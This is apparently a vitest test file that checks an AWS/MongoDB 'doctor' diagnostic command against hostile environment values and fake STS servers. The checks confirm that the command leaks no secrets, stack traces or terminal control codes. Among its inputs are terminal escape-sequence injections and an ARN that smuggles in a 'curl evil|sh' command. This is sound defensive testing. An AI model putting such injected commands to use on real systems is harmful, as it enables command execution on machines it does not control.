import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, connect, createServer } from 'node:net';
import { join } from 'node:path';
import { createTemporaryFolder, type TemporaryFolder } from '@atlas-aws-iam/command';
import { type Sandbox, startSandbox } from '@atlas-aws-iam/sandbox';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { BIN, linksOf, runDoctor } from '../trials/run-doctor.ts';

let sandbox: Sandbox;
let env: Readonly<Record<string, string>>;
let folder: TemporaryFolder;
beforeAll(async () => {
  sandbox = await startSandbox();
  ({ env } = await sandbox.provision('default-chain'));
});
afterAll(() => sandbox.stop());
beforeEach(() => {
  folder = createTemporaryFolder('doctor-hostile-');
  onTestFinished(() => folder[Symbol.dispose]());
});

const file = (name: string, contents: string | Buffer): string => {
  const path = join(folder.path, name);
  writeFileSync(path, contents);
  return path;
};

const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

const HOSTILE: Record<string, () => Readonly<Record<string, string | undefined>>> = {
  'shared files that are folders': () => ({
    AWS_CONFIG_FILE: folder.path,
    AWS_SHARED_CREDENTIALS_FILE: folder.path,
  }),
  'the text of a credentials file in place of its path': () => ({
    AWS_SHARED_CREDENTIALS_FILE: `[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${SECRET}\n`,
  }),
  'a credentials file in UTF-16': () => ({
    AWS_SHARED_CREDENTIALS_FILE: file(
      'c',
      Buffer.from(`[default]\naws_secret_access_key=${SECRET}`, 'utf16le'),
    ),
  }),
  'a config file of two megabytes without a line break': () => ({
    AWS_CONFIG_FILE: file('c', '['.repeat(2_000_000)),
  }),
  'profiles that point at each other': () => ({
    AWS_PROFILE: 'a',
    AWS_CONFIG_FILE: file(
      'c',
      '[profile a]\nrole_arn=x\nsource_profile=b\n[profile b]\nrole_arn=x\nsource_profile=a\n',
    ),
  }),
  'a profile’s name with what a terminal obeys': () => ({ AWS_PROFILE: '\u001b[31mred\u001b]0;title\u0007' }),
  'a URL with what a terminal obeys': () => ({ AWS_MONGO_CLUSTER_URL: 'mongodb://\u001b[2Jhost/' }),
  'the secret where the host belongs': () => ({ AWS_MONGO_CLUSTER_URL: `mongodb://${SECRET}/` }),
  'a URL of a megabyte': () => ({ AWS_MONGO_CLUSTER_URL: `mongodb://${'a'.repeat(100_000)}/` }),
  'a tlsCAFile that is a folder': () => ({
    AWS_MONGO_CLUSTER_URL: `mongodb://127.0.0.1:1/?tls=true&tlsCAFile=${encodeURIComponent(folder.path)}`,
  }),
  'an STS that answers a login page': () => ({
    AWS_ENDPOINT_URL: sandbox.mongodbUri.replace(/^mongodb(.*?)\/.*$/, 'http$1'),
  }),
  'an address of IPv6 alone': () => ({
    AWS_MONGO_CLUSTER_URL: 'mongodb://[::1]:1/?serverSelectionTimeoutMS=500',
  }),
  'no home folder and no working one': () => ({
    HOME: '/nonexistent/home',
    USERPROFILE: '/nonexistent/home',
  }),
};

describe('it ends with a verdict, without a stack, and repeats no secret', () => {
  test.each(Object.entries(HOSTILE))('%s', async (_, make) => {
    const changes = make();
    for (const args of [['--json'], ['--verbose'], ['--offline', '--json']]) {
      const run = await runDoctor(args, { env: { ...env, ...changes } });
      expect(run.exitCode).toBeLessThanOrEqual(2);
      const text = run.stdout + run.stderr;
      expect(text).not.toContain(SECRET);
      expect(text).not.toMatch(/\n\s+at .*:\d+/);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: what is looked for.
      expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    }
  });

  test('a package.json and a .env of folders', async () => {
    mkdirSync(join(folder.path, 'package.json'));
    mkdirSync(join(folder.path, '.env'));
    const run = await runDoctor(['--json'], {
      folder: folder.path,
      env: { ...env, DOTENV_CONFIG_PATH: undefined },
    });
    expect(run.exitCode).toBe(0);
    expect(linksOf(run)[1]?.evidence.join()).toContain('which is a directory');
  });
});

/** Stands between the doctor and the sandbox, and passes on only so many pieces of what the doctor says. */
async function listenSilent(pieces: number): Promise<string> {
  const server = createServer((near) => {
    const far = connect(mongoPort(), '127.0.0.1');
    let left = pieces;
    near
      .on('data', (data) => {
        if (left > 0) far.write(data);
        left -= 1;
      })
      .on('error', () => {});
    far.on('data', (data) => near.write(data)).on('error', () => {});
    onTestFinished(() => {
      near.destroy();
      far.destroy();
    });
  }).listen(0, '127.0.0.1');
  onTestFinished(() => void server.close());
  await once(server, 'listening');
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const mongoPort = () => Number(new URL(sandbox.mongodbUri.replace('mongodb:', 'http:')).port);

describe('a server that falls silent in the middle', () => {
  test.each([0, 1, 2, 3])('after %i messages', async (pieces) => {
    const host = await listenSilent(pieces);
    const run = await runDoctor(['--json'], {
      env: { ...env, AWS_MONGO_CLUSTER_URL: `mongodb://${host}/?serverSelectionTimeoutMS=500` },
    });
    expect(run.exitCode).toBe(1);
  });
});

describe('an STS that lies', () => {
  const answer = (arn: string) =>
    `<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><GetCallerIdentityResult><Arn>${arn}</Arn></GetCallerIdentityResult></GetCallerIdentityResponse>`;

  test.each([
    'arn:aws:sts::123456789012:assumed-role/x;curl evil|sh $(id)/s',
    'arn:aws:iam::123456789012:user/x&#155;[31m',
    `arn:aws:iam::123456789012:user/${SECRET}`,
  ])('its ARN is neither a command nor a colour nor a secret: %s', async (arn) => {
    const server = createHttpServer((_, response) => response.end(answer(arn))).listen(0, '127.0.0.1');
    onTestFinished(() => void server.close());
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    const run = await runDoctor(['--verbose'], {
      env: {
        ...env,
        AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
        AWS_SECRET_ACCESS_KEY: SECRET,
        AWS_SESSION_TOKEN: undefined,
        AWS_ENDPOINT_URL_STS: `http://127.0.0.1:${port}`,
      },
    });
    expect(run.stdout).not.toMatch(/curl|\u009b/);
    expect(run.stdout).not.toContain(SECRET);
  });
});

test('a setting that the SDK alone cannot take is a remark', async () => {
  const run = await runDoctor(['--json'], { env: { ...env, AWS_DEFAULTS_MODE: 'bogus' } });
  expect(run.exitCode).toBe(0);
});

test('a database’s name that is a secret is hidden', async () => {
  const secret = 'ZSK7Gk9eMUPm4K4DN1BzH9Wqxt0aVs8Rb2Lc5Yf3';
  const run = await runDoctor(['--verbose'], { env: { ...env, AWS_MONGO_DATABASE: secret } });
  expect(run.stdout).not.toContain(secret);
});

test.skipIf(process.platform === 'win32')(
  'a server on a socket of the file system is reached there',
  async () => {
    const path = join(folder.path, 'm.sock');
    const server = createServer((near) => {
      const far = connect(mongoPort(), '127.0.0.1');
      near.pipe(far).on('error', () => {});
      far.pipe(near).on('error', () => {});
    }).listen(path);
    onTestFinished(() => void server.close());
    await once(server, 'listening');
    const run = await runDoctor(['--json'], {
      env: { ...env, AWS_MONGO_CLUSTER_URL: `mongodb://${encodeURIComponent(path)}/` },
    });
    expect(run.exitCode).toBe(0);
  },
);

test.skipIf(process.platform === 'win32')(
  'a pipe that nobody writes to keeps it from ending at no signal',
  async () => {
    const pipe = join(folder.path, 'pipe');
    execFileSync('mkfifo', [pipe]);
    const child = spawn(process.execPath, [BIN], {
      cwd: folder.path,
      env: {
        ...env,
        PATH: process.env.PATH,
        HOME: folder.path,
        AWS_SHARED_CREDENTIALS_FILE: pipe,
        AWS_ACCESS_KEY_ID: '',
      },
    });
    let stdout = '';
    for await (const chunk of child.stdout) {
      stdout += chunk;
      if (stdout.includes('Next: resolves')) break;
    }
    child.kill('SIGTERM');
    const [code] = await once(child, 'exit');
    expect(code).toBe(143);
  },
);
